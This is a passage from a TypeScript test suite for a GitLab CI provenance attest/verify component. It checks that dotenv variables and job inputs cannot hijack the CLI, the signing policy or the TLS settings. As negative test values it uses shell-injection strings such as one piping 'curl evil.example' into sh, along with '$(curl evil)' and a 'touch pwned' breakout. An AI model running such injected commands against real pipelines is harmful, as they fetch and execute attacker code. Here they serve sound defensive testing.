    expect(stdout).toContain("hijacked");
  });

  it("cannot replace the verify command, the policy or the bundle, nor load code into node", async () => {
    const dotenv = {
      ...publicKey,
      ...nodeAndNpm,
      PROVENANT_CLI: "true",
      PROVENANT_SOURCE_BRANCH: "*",
      PROVENANT_SOURCE_URI: "*",
      PROVENANT_BUILDER_ID: "",
      PROVENANT_SLSA_LEVEL: "1",
      PROVENANT_BUNDLE: "dist/forged.sigstore.json",
      PROVENANT_ARTIFACTS: "dist/other.txt",
      PROVENANT_PULL_REGISTRIES: "registry.evil.example",
      PROVENANT_INSECURE_REGISTRIES: "registry.evil.example",
    };
    const given = { artifacts: "dist/app.txt", source_uri: "gitlab.com/acme/app", source_branch: "main", builder_id: "https://gitlab.com/-/runners/gitlab-hosted", slsa_level: "2" };
    const { args, environment, stdout, code } = await runScript("verify", given, dotenv);
    expect(code).toBe(0);
    expect(args).toEqual([
      "verify",
      "--key",
      expect.any(String),
      "--builder-id",
      "https://gitlab.com/-/runners/gitlab-hosted",
      "--build-type",
      "https://provenant.dev/buildtypes/gitlab-ci/v1",
      "--source-uri",
      "gitlab.com/acme/app",
      "--source-branch",
      "main",
      "--slsa-level",
      "2",
      "--bundle",
      "provenance.sigstore.json",
      "--",
      "dist/app.txt",
    ]);
    expect(stdout).not.toContain("hijacked");
    expect(environment).toEqual({ PROVENANT_INSECURE_REGISTRIES: "" });
  });

  it("cannot replace the attest command, subjects, bundle, audience or push, nor load code into node", async () => {
    const dotenv = {
      ...signingKey,
      ...nodeAndNpm,
      PROVENANT_CLI: "true",
      PROVENANT_SUBJECTS: "dist/forged.txt",
      PROVENANT_BUNDLE: "/tmp/elsewhere.json",
      PROVENANT_TOKEN_AUDIENCE: "sigstore",
      PROVENANT_PUSH: "true",
      PROVENANT_GITLAB_API: "false",
      PROVENANT_INSECURE_REGISTRIES: "registry.evil.example",
    };
    const { args, environment, stdout, code } = await runScript("attest", { subjects: "dist/*.txt" }, dotenv);
    expect(code).toBe(0);
    expect(args).toEqual(["attest", "--platform", "gitlab", "--bundle", "provenance.sigstore.json", "--token-audience", "provenant", "--", "dist/*.txt"]);
    expect(stdout).not.toContain("hijacked");
    expect(environment).toEqual({ PROVENANT_GITLAB_API: "true", PROVENANT_INSECURE_REGISTRIES: "" });
  });

  it("keeps registry_hosts to the registries the include named", async () => {
    const { environment, code } = await runScript(
      "attest",
      { subjects: "oci://registry.gitlab.example/acme/app:1.0", registry_hosts: "registry.gitlab.example" },
      { ...signingKey, ...registryLogin, PROVENANT_PUSH_REGISTRIES: "registry.evil.example", CI_REGISTRY: "registry.evil.example" },
    );
    expect(code).toBe(0);
    expect(environment.PROVENANT_REGISTRY_HOSTS).toBe("registry.gitlab.example");
  });

  it("subjects naming CI/CD variables are expanded as GitLab does, from the job variable", async () => {
    const { args, code } = await runScript("attest", { subjects: `oci://$CI_REGISTRY_IMAGE:${braced("CI_COMMIT_SHA")}` }, {
      ...signingKey,
      CI_REGISTRY_IMAGE: "registry.gitlab.example/acme/app",
      CI_COMMIT_SHA: "4e9b7dbc",
    });
    expect(code).toBe(0);
    expect(args.slice(args.indexOf("--"))).toEqual(["--", "oci://registry.gitlab.example/acme/app:4e9b7dbc"]);
  });

  it("verify's artifacts and registry_image naming CI/CD variables are expanded as GitLab does", async () => {
    const env = { ...publicKey, CI_REGISTRY_IMAGE: "registry.gitlab.example/acme/app", CI_COMMIT_SHA: "4e9b7dbc" };
    const artifacts = await runScript("verify", { artifacts: "dist/app.txt oci://$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA" }, env);
    expect(artifacts.args.slice(artifacts.args.indexOf("--"))).toEqual(["--", "dist/app.txt", "oci://registry.gitlab.example/acme/app:4e9b7dbc"]);
    const image = await runScript("verify", { registry_image: `oci://${braced("CI_REGISTRY_IMAGE")}:$CI_COMMIT_SHA` }, env);
    expect(image.args.slice(-2)).toEqual(["--image", "oci://registry.gitlab.example/acme/app:4e9b7dbc"]);
  });

  it("with server_url given, a CI_SERVER_URL that says another server stops attest before the CLI", async () => {
    const pinned = { subjects: "dist/app.txt", server_url: "https://gitlab.com" };
    const moved = await runScript("attest", pinned, { ...signingKey, CI_SERVER_URL: "https://gitlab.evil.example" });
    expect(moved.code).toBe(2);
    expect(moved.stderr).toContain("CI_SERVER_URL is https://gitlab.evil.example but the input server_url is https://gitlab.com");
    expect(moved.args).toEqual([]);
    const same = await runScript("attest", pinned, { ...signingKey, CI_SERVER_URL: "https://gitlab.com" });
    expect(same.code).toBe(0);
    expect(same.args[0]).toBe("attest");
  });
});

describe("token_issuer (an instance's own ci_id_tokens_issuer_url)", () => {
  it("reaches the CLI as --token-issuer, fixed at include time, and a dotenv variable cannot set it", async () => {
    const pinned = await runScript("attest", { subjects: "dist/app.txt", token_issuer: "https://oidc.gitlab.example" }, { ...signingKey, PROVENANT_TOKEN_ISSUER: "https://evil.example" });
    expect(pinned.code).toBe(0);
    expect(pinned.args.slice(pinned.args.indexOf("--token-issuer"), pinned.args.indexOf("--token-issuer") + 2)).toEqual(["--token-issuer", "https://oidc.gitlab.example"]);
    const unset = await runScript("attest", { subjects: "dist/app.txt" }, { ...signingKey, PROVENANT_TOKEN_ISSUER: "https://evil.example", provenant_token_issuer: "https://evil.example" });
    expect(unset.code).toBe(0);
    expect(unset.args).not.toContain("--token-issuer");
  });

  it("refuses a value naming a CI/CD variable, naming the input", async () => {
    const { code, stderr, args } = await runScript("attest", { subjects: "dist/app.txt", token_issuer: "$CI_SERVER_URL" }, signingKey);
    expect(code).toBe(2);
    expect(stderr).toContain('[USAGE]: the input token_issuer is "$CI_SERVER_URL"');
    expect(args).toEqual([]);
  });
});

describe("inputs taken literally", () => {
  const publicKey = { PROVENANT_PUBLIC_KEY: "-----BEGIN PUBLIC KEY-----\n...\n-----END PUBLIC KEY-----" };

  it("a policy input naming a CI/CD variable stops verify before the CLI, naming the input", async () => {
    // GitLab does not expand it there: $CI_DEFAULT_BRANCH would be compared as written and never match.
    const { code, stderr, args } = await runScript("verify", { artifacts: "dist/app.txt", source_branch: "$CI_DEFAULT_BRANCH" }, { ...publicKey, CI_DEFAULT_BRANCH: "main" });
    expect(code).toBe(2);
    expect(stderr).toContain('the input source_branch is "$CI_DEFAULT_BRANCH"; expected a value taken literally, without $');
    expect(args).toEqual([]);
  });

  it("token_audience and bundle naming a CI/CD variable are refused when the component is included", async () => {
    // id_tokens: aud would be expanded by GitLab while the CLI checks the literal;
    // a bundle path would be written where artifacts: paths does not look.
    const attest = await component("attest");
    expect(includeErrors(attest.inputs, { subjects: "dist/app.txt", token_audience: "$CI_SERVER_URL" })).toEqual([
      "`token_audience` input: provided value does not match required RegEx pattern",
    ]);
    expect(includeErrors(attest.inputs, { subjects: "dist/app.txt", bundle: "$CI_PROJECT_DIR/p.json" })).toEqual([
      "`bundle` input: provided value does not match required RegEx pattern",
    ]);
    const verify = await component("verify");
    expect(includeErrors(verify.inputs, { bundle: `${braced("CI_PROJECT_DIR")}/p.json` })).toHaveLength(1);
  });

  it("an input that may be empty keeps a quote as text: it reaches the CLI as one argument and runs nothing", async () => {
    const quoted = "x'; touch pwned; '";
    const { code, args, cwd } = await runScript("verify", { artifacts: "dist/app.txt", builder_id: quoted, source_tag: "it's" }, publicKey);
    expect(code).toBe(0);
    expect(args.slice(args.indexOf("--builder-id"), args.indexOf("--builder-id") + 2)).toEqual(["--builder-id", quoted]);
    expect(args.slice(args.indexOf("--source-tag"), args.indexOf("--source-tag") + 2)).toEqual(["--source-tag", "it's"]);
    expect(existsSync(join(cwd, "pwned"))).toBe(false);
  });

  it("a multi-line value, or one its input does not take, stops the job with a usage error naming the input", async () => {
    const lines = await runScript("verify", { artifacts: "dist/app.txt", source_uri: "gitlab.com/acme/app\ngitlab.com/evil/app" }, publicKey);
    expect(lines.code).toBe(2);
    expect(lines.stderr).toContain("the input source_uri holds more than one line");
    const level = await runScript("verify", { artifacts: "dist/app.txt", slsa_level: "L2" }, publicKey);
    expect(level.code).toBe(2);
    expect(level.stderr).toContain('the input slsa_level is "L2"; expected empty or one digit');
    for (const [input, value] of [
      ["server_url", "https://gitlab.com/$CI_PROJECT_PATH"],
      ["registry_hosts", "registry.example.com; curl evil"],
      ["insecure_registry", "$CI_REGISTRY"],
    ] as const) {
      const { code, stderr, args } = await runScript("attest", { subjects: "dist/app.txt", [input]: value }, signingKey);
      expect(code, input).toBe(2);
      expect(stderr).toContain(`[USAGE]: the input ${input} is "${value}"`);
      expect(args).toEqual([]);
    }
  });
});

describe("TLS and proxy settings from a dotenv report", () => {
  const tls = { NODE_TLS_REJECT_UNAUTHORIZED: "0", NODE_USE_ENV_PROXY: "1", NODE_EXTRA_CA_CERTS: "/etc/ssl/corp-ca.pem", HTTPS_PROXY: "http://proxy.corp.example:3128" };
  for (const [name, given, env] of [
    ["attest", { subjects: "dist/app.txt" }, signingKey],
    ["verify", { artifacts: "dist/app.txt" }, { PROVENANT_PUBLIC_KEY: "-----BEGIN PUBLIC KEY-----" }],
  ] as const) {
    it(`${name}: certificate checks stay on and node's fetch ignores proxies; a private CA and the proxy variables stay`, async () => {
      const { code, environment } = await runScript(name, given, { ...env, ...tls });
      expect(code).toBe(0);
      expect(environment.NODE_TLS_REJECT_UNAUTHORIZED).toBeUndefined();
      expect(environment.NODE_USE_ENV_PROXY).toBeUndefined();
      // A self-managed instance with a private CA is trusted through it; npx uses the proxy.
      expect(environment).toMatchObject({ NODE_EXTRA_CA_CERTS: tls.NODE_EXTRA_CA_CERTS, HTTPS_PROXY: tls.HTTPS_PROXY });
    });
  }
});

describe("inputs pasted into the job scripts", () => {
  const breakouts = ["x'; curl evil.example | sh; '", "x'\n'"];
  /** Inputs whose only place in the scripts is a line of their own inside a quoted heredoc. */
  const inHeredoc = (scripts: string) =>
    new Set([...scripts.matchAll(/<<'PROVENANT_INPUT'\n\$\[\[ inputs\.([a-z_]+) \]\]\nPROVENANT_INPUT\n/g)].map((m) => m[1]!));

  for (const name of ["attest", "verify"] as const) {
    it(`${name}.yml: each is held by regex:, options: or a boolean type to what cannot leave its quotes, or sits alone in a quoted heredoc`, async () => {
      const { inputs, jobs } = await component(name);
      const scripts = Object.values(jobs).flatMap((job) => job.script as string[]).join("\n");
      const heredoc = inHeredoc(scripts);
      expect(heredoc.size).toBeGreaterThan(2);
      const outside = scripts.replace(/<<'PROVENANT_INPUT'\n[^\n]*\nPROVENANT_INPUT\n/g, "");
      const pasted = new Set([...outside.matchAll(/\$\[\[\s*inputs\.([a-z_]+)\s*\]\]/g)].map((m) => m[1]!));
      expect(pasted.size).toBeGreaterThan(3);
      for (const input of heredoc) expect(pasted.has(input), `${input} is only in its heredoc`).toBe(false);
      for (const input of pasted) {
        const spec = inputs[input]! as InputSpec & { options?: unknown[] };
        if (spec.type === "boolean" || spec.options) continue;
        expect(spec.regex, `${name} input ${input} has a regex`).toBeDefined();
        const pattern = new RegExp(spec.regex!);
        for (const value of breakouts) expect(pattern.test(value), `${input}: ${JSON.stringify(value)}`).toBe(false);
      }
    });

    it(`${name}.yml: GitLab accepts every default and every input left empty that means "not set", before and after it let empty strings match`, async () => {
      const { inputs } = await component(name);
      const required: Record<string, string> = name === "attest" ? { subjects: "dist/app.txt" } : {};
      for (const allowEmptyString of [false, true]) {
        expect(includeErrors(inputs, required, { allowEmptyString }), `defaults, allow_empty_string ${allowEmptyString}`).toEqual([]);
        // Every input whose description or README row gives empty a meaning.
        const empties = Object.entries(inputs).filter(([, spec]) => spec.default === "" || /\bempty\b/i.test(spec.description ?? ""));
        expect(empties.length).toBeGreaterThan(2);
        for (const [input] of empties) {
          expect(includeErrors(inputs, { ...required, [input]: "" }, { allowEmptyString }), `${input}: ""`).toEqual([]);
        }
      }
      // The model's rule itself: an input with a regex refuses "" on the older GitLab.
      const withRegex = Object.keys(inputs).find((input) => inputs[input]!.regex)!;
      expect(includeErrors(inputs, { ...required, [withRegex]: "" })).toEqual([`\`${withRegex}\` input: provided value does not match required RegEx pattern`]);
    });
  }

  it("command is words a shell cannot read as anything but words", async () => {
    for (const name of ["attest", "verify"] as const) {
      const pattern = new RegExp((await component(name)).inputs.command!.regex!);
      for (const good of ["npx --yes @provenant/cli@0.1.0", "provenant", "node tools/provenant.mjs", "npx --yes --registry=https://npm.corp.example/ @provenant/cli@0.1.0"]) {
        expect(pattern.test(good), good).toBe(true);
      }
      for (const bad of ["provenant; curl evil", "$(curl evil)", "`curl evil`", "provenant | sh", "provenant && x", "provenant > f", "provenant *", "$PROVENANT_CLI", "", "two  spaces"]) {
        expect(pattern.test(bad), bad).toBe(false);
      }
    }
  });
});
